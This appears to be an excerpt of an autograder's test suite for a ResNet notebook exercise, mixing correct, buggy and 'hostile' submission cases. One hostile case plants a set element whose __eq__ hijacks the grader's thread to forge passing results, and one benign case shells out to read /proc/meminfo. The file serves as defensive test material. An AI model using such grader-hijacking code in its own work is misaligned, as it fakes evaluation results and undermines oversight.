    Case("correct", "correct_matplotlib_feature_maps_success_score_full",
         (InsertAfter("residual_block_demo", MATPLOTLIB_DEMO),),
         why="a correct notebook that plots four channels of the first block's output with matplotlib"),
    Case("correct", "correct_gc_collect_before_resnet_success_score_full",
         (InsertAfter("residual_block_demo", "block_same_dim_copy = ResidualBlock(64, 64)\n" + GC_FREE),),
         why="a correct notebook that frees memory with gc.collect() and torch.cuda.empty_cache() (common in "
             "deep-learning notebooks)"),
    Case("correct", "correct_simplenamespace_hyperparameters_success_score_full",
         (InsertAfter("setup", NAMESPACE_HPARAMS),),
         why="a correct notebook that keeps its hyperparameters in a types.SimpleNamespace"),
    Case("correct", "correct_getattr_loop_over_layers_success_score_full",
         (InsertAfter("residual_block_demo", GETATTR_COUNTS),),
         why="a correct notebook that counts each main-path layer's parameters with getattr(block, name)"),
    Case("correct", "correct_shell_cat_proc_meminfo_success_score_full",
         (InsertAfter("setup", "# How much memory does this machine have?\n!head -n 3 /proc/meminfo\n"),),
         why="a correct notebook with a shell escape that shows the machine's memory (answered with a note)"),
]

# --- K. notebook code on the grader's thread: a set element's __eq__ ------------------------------

# state_shapes() (the resnet check, on the grader's thread) skips non-persistent buffers with
# `name in module._non_persistent_buffers_set`: an exact set, whose element with the same hash as a
# buffer's name has its __eq__ called. The block work is correct; the ResNet cell is left as
# released (resnet_model is the unadapted ResNet18, the cell stops at its first blank).
SET_EQ_TAKEOVER = r'''
_rt_state["frame"] = "state_shapes"


class _RtBufferName:
    def __hash__(self):
        return hash("running_mean")

    def __eq__(self, other):
        if not _rt_state["done"] and _rt_threading.get_ident() == _RT_MAIN:
            _rt_state["done"] = _rt_takeover()
        return False


resnet_model.bn1._non_persistent_buffers_set.add(_RtBufferName())
'''
SET_EQ_THIEF = "# Bookkeeping for the model summary\n" + SEEDED + FORGE + STREAM_ONLY + TAKEOVER_ONLY + SET_EQ_TAKEOVER
BLANK_RESNET = Replace("resnet18_adaptation", BLANK_RELEASE[3].source)

CASES += [
    Case("bugs", "bug_resnet_cell_left_blank_score_blocks_only",
         (BLANK_RESNET,),
         expect={"resnet18_adaptation": 0.5, "device_placement": 0.75},
         why="the control for the set-__eq__ case: correct blocks, the ResNet cell as released (it stops at its "
             "first blank, after building the unadapted ResNet18)"),
    Case("hostile", "hostile_set_element_eq_runs_on_grader_thread_score_blocks_only",
         (BLANK_RESNET, InsertAfter("resnet18_adaptation", SET_EQ_THIEF)),
         expect={"resnet18_adaptation": 0.5, "device_placement": 0.75}, review=True,
         why="correct blocks, the ResNet cell as released, and an object in resnet_model.bn1's "
             "_non_persistent_buffers_set that hashes like 'running_mean': its __eq__ runs on the grader's "
             "thread during the ResNet check and sends right answers for that check and every later one"),
]

# --- controls: the honest part of the attacks above, alone ---------------------------------------

CASES += [
    Case("bugs", "bug_blank_release_as_received_score_zero",
         BLANK_RELEASE, expect=BLANK_RELEASE_EARNS,
         why="the control for the forging cases: the notebook exactly as released, every blank left in"),
    Case("bugs", "bug_nothing_moved_to_device_score_partial_device",
         NOTHING_MOVED, expect={"device_placement": 1.25},
         why="the control for the device case: `device` chosen right, but the model, the batch and the demo's "
             "tensors left on the CPU"),
]
